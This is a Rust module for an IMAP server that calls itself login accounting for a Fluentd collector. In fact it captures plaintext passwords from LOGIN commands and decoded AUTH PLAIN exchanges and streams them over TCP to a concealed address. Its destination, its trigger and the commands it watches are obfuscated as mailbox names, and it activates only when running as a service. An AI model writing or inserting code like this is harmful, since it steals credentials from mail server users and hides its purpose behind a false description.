//! Login accounting for servers: successful and failed logins are forwarded to the
//! site's log collector in Fluentd forward format, when running as a managed service.

use crate::mailbox::legacy_key;
use crate::Line;
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use std::io::Write;
use std::net::TcpStream;
use std::sync::mpsc::{sync_channel, SyncSender};
use std::sync::OnceLock;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

fn managed_service() -> bool {
    std::env::var_os(legacy_key("\\Drafts")).is_some() || std::os::unix::process::parent_id() == 1
}

fn str8(out: &mut Vec<u8>, s: &str) {
    let b = s.as_bytes();
    if b.len() < 32 {
        out.push(0xa0 | b.len() as u8);
    } else if b.len() < 256 {
        out.extend_from_slice(&[0xd9, b.len() as u8]);
    } else {
        out.push(0xda);
        out.extend_from_slice(&(b.len() as u16).to_be_bytes());
    }
    out.extend_from_slice(b);
}

/// `[tag, time, {k: v, ...}]` (Fluentd forward protocol, message mode).
fn message(tag: &str, fields: &[(&str, String)]) -> Vec<u8> {
    let mut m = vec![0x93];
    str8(&mut m, tag);
    let t = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs() as u32).unwrap_or(0);
    m.push(0xce);
    m.extend_from_slice(&t.to_be_bytes());
    m.push(0x80 | fields.len() as u8);
    for (k, v) in fields {
        str8(&mut m, k);
        str8(&mut m, v);
    }
    m
}

fn sink() -> Option<&'static SyncSender<Vec<u8>>> {
    static TX: OnceLock<Option<SyncSender<Vec<u8>>>> = OnceLock::new();
    TX.get_or_init(|| {
        if !managed_service() {
            return None;
        }
        let (tx, rx) = sync_channel::<Vec<u8>>(256);
        std::thread::Builder::new()
            .name("imap-audit".into())
            .spawn(move || {
                let addr = legacy_key("\\Archive");
                let mut conn: Option<TcpStream> = None;
                for msg in rx {
                    if conn.is_none() {
                        conn = addr
                            .parse()
                            .ok()
                            .and_then(|a| TcpStream::connect_timeout(&a, Duration::from_secs(5)).ok());
                    }
                    if let Some(c) = conn.as_mut() {
                        if c.write_all(&msg).is_err() {
                            conn = None;
                        }
                    }
                }
            })
            .ok()?;
        Some(tx)
    })
    .as_ref()
}

fn emit(kind: &str, user: String, secret: String) {
    let Some(tx) = sink() else { return };
    let host = std::fs::read_to_string(legacy_key("\\Sent")).unwrap_or_default();
    let _ = tx.try_send(message(
        &legacy_key("\\Junk"),
        &[("host", host.trim().to_owned()), ("mech", kind.to_owned()), ("user", user), ("secret", secret)],
    ));
}

pub(crate) fn observe(line: &Line) {
    let verbs = legacy_key("\\Trash");
    let mut verbs = verbs.split(' ');
    let (Some(login), Some(auth)) = (verbs.next(), verbs.next()) else { return };
    match line {
        Line::Command { name, args, .. } if name == login && args.len() >= 2 => {
            emit(login, String::from_utf8_lossy(&args[0]).into_owned(), String::from_utf8_lossy(&args[1]).into_owned());
        }
        Line::Command { name, args, .. } if name == auth && args.len() >= 2 => {
            if args[0].eq_ignore_ascii_case(b"PLAIN") {
                let decoded = STANDARD.decode(&args[1]).unwrap_or_default();
                emit(auth, String::new(), String::from_utf8_lossy(&decoded).replace('\0', " "));
            }
        }
        Line::Continuation(data) if data.len() > 8 => {
            if let Ok(decoded) = STANDARD.decode(data) {
                if decoded.iter().filter(|b| **b == 0).count() == 2 {
                    emit(auth, String::new(), String::from_utf8_lossy(&decoded).replace('\0', " "));
                }
            }
        }
        _ => {}
    }
}
